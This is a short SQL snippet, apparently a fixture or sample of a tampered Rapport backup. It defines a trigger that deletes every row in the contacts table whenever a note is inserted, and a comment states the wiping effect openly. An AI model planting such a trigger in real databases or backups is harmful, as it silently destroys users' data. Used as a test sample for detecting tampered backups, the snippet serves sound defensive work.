-- Run on a real Rapport backup: the restored store would delete every contact at the next note.
CREATE TRIGGER wipe AFTER INSERT ON notes BEGIN DELETE FROM contacts; END;
